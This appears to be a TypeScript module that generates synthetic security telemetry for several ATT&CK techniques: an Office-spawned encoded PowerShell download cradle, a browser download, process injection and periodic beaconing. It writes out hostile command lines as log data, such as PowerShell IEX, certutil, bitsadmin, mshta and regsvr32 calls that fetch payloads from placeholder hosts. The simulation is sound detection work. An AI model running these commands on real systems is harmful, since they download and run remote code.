import { SECOND } from '../../../tenant/tick.ts';
import { fileColumns } from '../actor.ts';
import { hostOf } from '../cloud-log.ts';
import { encoded, keyboard, type Technique } from './technique.ts';

/** A document starts a shell, the shell fetches the rest with what every Windows has. */
const office: Technique = (scene, write) => {
  const keys = keyboard(scene, write);
  if (keys === undefined) return;
  const host = hostOf(scene.url) ?? 'cdn-assets.example';
  const address = scene.address ?? '203.0.113.77';
  const word = keys.running('WINWORD.EXE', scene.when(0.1));
  const fetch = `IEX (New-Object Net.WebClient).DownloadString('https://${host}/a.ps1')`;
  const shell = keys.run(0.2, word, 'cmd.exe', `cmd.exe /c powershell -w hidden -nop -enc ${encoded(fetch)}`);
  const script = keys.run(
    0.22,
    shell,
    'powershell.exe',
    `powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ${encoded(fetch)}`,
  );
  keys.log.network(scene.when(0.24), script, { address, port: 443, url: `https://${host}/a.ps1` });
  keys.log.network(scene.when(0.23), keys.running('svchost.exe', scene.when(0.23)), {
    address: '10.1.7.34',
    port: 53,
    protocol: 'Udp',
    action: 'DnsConnectionInspected',
    more: { direction: 'Out', conn_state: 'SF', query: host, qtype_name: 'A', answers: [address] },
  });
  keys.log.event(scene.when(0.25), 'PowerShellCommand', script, { Command: 'Invoke-Expression' });
  keys.log.event(scene.when(0.26), 'AmsiScriptDetection', script, { Description: fetch, ModuleName: 'AMSI' });
  keys.run(0.3, script, 'mshta.exe', `mshta.exe https://${host}/status.hta`);
  keys.run(
    0.34,
    script,
    'certutil.exe',
    `certutil.exe -urlcache -split -f https://${host}/update.dll C:\\Windows\\Temp\\update.dll`,
  );
  keys.run(
    0.38,
    script,
    'bitsadmin.exe',
    `bitsadmin /transfer job /download /priority high https://${host}/b.exe C:\\ProgramData\\Cache\\svch0st.exe`,
  );
  keys.run(0.42, script, 'rundll32.exe', 'rundll32.exe C:\\Windows\\Temp\\update.dll,StartW');
  keys.run(0.46, script, 'regsvr32.exe', `regsvr32.exe /s /n /u /i:https://${host}/file.sct scrobj.dll`);
  keys.run(
    0.5,
    script,
    'wmic.exe',
    `wmic.exe process call create "powershell -enc ${encoded('Get-Process')}"`,
  );
};

/** A download from the browser, with the mark of the web on it. */
const download: Technique = (scene, write) => {
  const keys = keyboard(scene, write);
  if (keys === undefined) return;
  const browser = keys.running('msedge.exe', scene.when(0.1));
  const file = {
    ...fileColumns(scene.file ?? null),
    name: 'invoice_viewer.zip',
    path: `C:\\Users\\${keys.user?.account ?? 'Public'}\\Downloads\\invoice_viewer.zip`,
  };
  const origin = {
    FileOriginUrl: 'https://files-share.example/d/invoice_viewer.zip',
    FileOriginReferrerUrl: 'https://files-share.example/d',
    FileOriginIP: '203.0.113.90',
  };
  keys.log.network(scene.when(0.1) - SECOND, browser, {
    address: '203.0.113.90',
    port: 443,
    url: 'files-share.example',
  });
  keys.log.file(scene.when(0.1), 'FileCreated', browser, file, origin);
  const explorer = keys.running('explorer.exe', scene.when(0.2));
  keys.run(0.2, explorer, '7z.exe', `"C:\\Program Files\\7-Zip\\7z.exe" x "${file.path}"`);
  keys.log.event(
    scene.when(0.3),
    'SmartScreenAppWarning',
    explorer,
    { Experience: 'Untrusted' },
    { FileName: scene.file?.name, SHA1: scene.file?.sha1 },
  );
};

/** Code is written into a process that others trust. */
const injection: Technique = (scene, write) => {
  const keys = keyboard(scene, write);
  if (keys === undefined) return;
  const loader = keys.run(
    0.4,
    keys.running('explorer.exe', scene.when(0.4)),
    'rundll32.exe',
    'rundll32.exe C:\\ProgramData\\Cache\\update.dll,DllRegisterServer',
  );
  const target = keys.running('notepad.exe', scene.when(0.45));
  const columns = {
    FileName: target.name,
    FolderPath: target.path,
    SHA1: target.sha1,
    ProcessId: target.id,
    ProcessCommandLine: target.commandLine,
    ProcessCreationTime: target.created,
  };
  keys.log.event(scene.when(0.5), 'OpenProcessApiCall', loader, { DesiredAccess: 2_035_711 }, columns);
  keys.log.event(
    scene.when(0.52),
    'NtAllocateVirtualMemoryRemoteApiCall',
    loader,
    { AllocationType: 12_288, AllocationProtect: 64 },
    columns,
  );
  keys.log.event(scene.when(0.55), 'CreateRemoteThreadApiCall', loader, { StartAddress: '0x7ff6' }, columns);
  keys.log.imageLoad(scene.when(0.6), target, {
    ...fileColumns(scene.file ?? null),
    name: 'update.dll',
    path: 'C:\\ProgramData\\Cache\\update.dll',
  });
};

const BEATS = 24;

/** The same server is asked at even intervals. */
const beacon: Technique = (scene, write) => {
  const keys = keyboard(scene, write);
  if (keys === undefined) return;
  const beating = keys.running('rundll32.exe', scene.when(0));
  const url = hostOf(scene.url) ?? 'cdn-assets.example';
  for (let beat = 0; beat < BEATS; beat += 1)
    keys.log.network(scene.when(beat / BEATS), beating, {
      address: scene.address ?? '203.0.113.77',
      port: 443,
      url,
    });
};

export const EXECUTION_TECHNIQUES: Readonly<Record<string, Technique>> = {
  T1055: injection,
  'T1059.001': office,
  'T1071.001': beacon,
  'T1204.002': download,
};
